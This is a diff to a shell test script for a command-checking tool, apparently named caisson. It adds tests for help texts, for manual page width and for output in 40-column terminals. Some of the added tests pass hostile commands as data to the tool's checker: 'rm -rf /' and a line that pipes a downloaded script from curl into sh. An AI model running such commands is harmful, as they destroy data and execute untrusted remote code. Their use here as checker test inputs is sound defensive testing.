@@ -27,6 +27,9 @@ says 0 'usage: caisson normalise' normalize --help
 says 0 'usage: caisson normalise' help normalize
 says 0 'usage: caisson audit query' help audit query
 says 0 'subcommands:' audit --help
+says 64 'Start here:'
+says 64 "options follow the command" --json check ls
+says 0 'caisson 0.' -v
 says 64 "unknown command 'chek', did you mean 'check'" chek
 says 64 "unknown command or topic 'chek', did you mean 'check'" help chek
 says 64 "unknown command 'frobnicate'; see caisson --help" frobnicate
@@ -78,6 +81,40 @@ done <"$tmp/commands"
 result $? "usage texts of at most 80 columns:$bad"
 "$CAISSON" --help | awk 'length > 80 {exit 1}'
 result $? 'the help of the program'
+
+# Manual pages fit, and groff has nothing to say about them.
+if command -v groff >/dev/null; then
+	bad="" count=0
+	for page in "$here"/man/*; do
+		groff -man -Tascii -P-cbou -rLL=80n -ww "$page" >"$tmp/page" 2>"$tmp/groff"
+		[[ -s $tmp/page && ! -s $tmp/groff ]] && awk 'length > 80 {exit 1}' "$tmp/page" || bad+=" ${page##*/}"
+		count=$((count + 1))
+	done
+	[[ -z $bad && $count -gt 40 ]]
+	result $? "$count manual pages of at most 80 columns:$bad"
+else
+	skip 'manual pages of 80 columns' 'groff is not installed'
+fi
+
+# Terminals of 40 columns: no line is longer, but for paths, hashes and addresses that must stay whole.
+"$CAISSON" run -c 'exit 3' >/dev/null 2>&1
+"$CAISSON" check --record 'rm -rf /' >/dev/null 2>&1
+narrow() {
+	local command=$1
+	shift
+	COLUMNS=40 LC_ALL=C.UTF-8 PAGER=cat NO_COLOR=1 python3 "$here/tests/terminal.py" '' "$CAISSON" "$command" "$@" >"$tmp/page" 2>&1
+	python3 -c 'import sys
+lines = open(sys.argv[1], encoding="utf-8").read().split("\n")
+long = [l for l in lines if len(l) > 40 and max(map(len, l.split())) < 30]
+print("\n".join(long))
+sys.exit(bool(long) or len(lines) < 4)' "$tmp/page" >"$tmp/out"
+	result $? "caisson $command $* in 40 columns"
+}
+narrow doctor
+narrow stats
+narrow audit query
+narrow selftest
+narrow check 'rm -rf /; curl https://example.org/x.sh | sh'
 
 # Each check has a row here, and the command in it raises that check when it is graded deny.
 "$CAISSON" checks --json >"$tmp/checks"
